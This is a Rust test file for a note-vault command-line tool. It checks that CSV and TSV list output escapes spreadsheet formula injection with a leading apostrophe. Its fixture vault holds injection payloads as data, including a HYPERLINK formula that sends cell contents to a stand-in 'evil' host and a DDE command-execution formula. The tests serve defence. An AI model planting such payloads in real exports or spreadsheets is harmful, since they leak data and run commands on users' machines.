//! No cell of a list in CSV or TSV is a formula for a spreadsheet.

use crate::support::Vault;

const VAULT: &str = r#"//- =i.md
---
"=key": "=1+1"
"@at": "@SUM(A1)"
tags: ["-tag"]
aliases: ["+alias"]
---
# Integration Specification: =HYPERLINK("http://evil/?"&A1,"x")
## Basic Information
- **Integration ID**: INT-2024-009
- **Source System**: =cmd|' /C calc'!A0
- **Target System**: @SUM(1)
- **Status**: +active
- **Owner**: -2+3
## @Heading
[[@nobody]] [[-n]] [[+p]]
## Knobs
| =Knob | +Turn |
|---|---|
| -a | b |
## Modification History
- 2024-12-07_10-00 - =1+1 Updated [[X]]
- [ ] =2+2 task
- [-] -2+3
- [ ] 'quoted
//- -n.md
+alias and =i and [[=i]]
//- +p.md
[[=i#@Heading|-display]]
//- Templates/=t.md
---
tags: [integration]
---
# {{title}}
## Basic Information
- **Integration ID**: INT-YYYY-XXX
- **Source System**: [Source]
- [ ] {{task}}
"#;

/// Every command that prints a list, with arguments by which it prints something from the vault.
const LISTS: &[&[&str]] = &[
    &["search", "task"],
    &["search", "-n", "9", "i"],
    &["links", "=i.md"],
    &["backlinks", "=i.md"],
    &["mentions", "=i.md"],
    &["unresolved"],
    &["orphans"],
    &["deadends"],
    &["tags"],
    &["tags", "=i.md"],
    &["properties"],
    &["properties", "=i.md"],
    &["outline", "=i.md"],
    &["tasks"],
    &["integrations"],
    &["integrations", "--unread"],
    &["systems"],
    &["changelog"],
    &["templates"],
];

fn rows_of_csv(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect()
}

fn rows_of_tsv(text: &str) -> Vec<Vec<String>> {
    text.lines().map(|line| line.split('\t').map(str::to_owned).collect()).collect()
}

#[test]
fn no_cell_of_a_list_is_a_formula() {
    let vault = Vault::new(VAULT);
    let mut n_escaped = 0;
    for list in LISTS {
        for (format, rows) in [("csv", rows_of_csv as fn(&str) -> _), ("tsv", rows_of_tsv)] {
            let ran = vault.run(&[list, &["--format", format][..]].concat());
            let rows = rows(&ran.stdout);
            assert!(ran.code < 2 && rows.len() > usize::from(ran.code == 0), "{list:?}: {ran:?}");
            for cell in rows.iter().flatten() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{list:?} {format}: {cell:?}");
                n_escaped += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(n_escaped > 60, "{n_escaped}");
}

#[test]
fn an_apostrophe_is_all_that_is_added() {
    let vault = Vault::new(VAULT);
    let texts = |format: &str, rows: fn(&str) -> Vec<Vec<String>>| -> Vec<String> {
        let text = vault.run(&["tasks", "=i.md", "--format", format]).stdout;
        rows(&text).into_iter().skip(1).filter_map(|row| row.last().cloned()).collect()
    };
    let expected = ["'=2+2 task", "'-2+3", "''quoted"];
    assert_eq!(texts("csv", rows_of_csv), expected);
    assert_eq!(texts("tsv", rows_of_tsv), expected);
    // JSON and Markdown are not for spreadsheets.
    let tasks = vault.json(&["tasks", "=i.md", "--json"]);
    assert_eq!(tasks["tasks"][1]["text"], "-2+3");
    assert!(vault.run(&["tasks", "=i.md", "--format", "md"]).stdout.contains("| -2+3 |"));
}
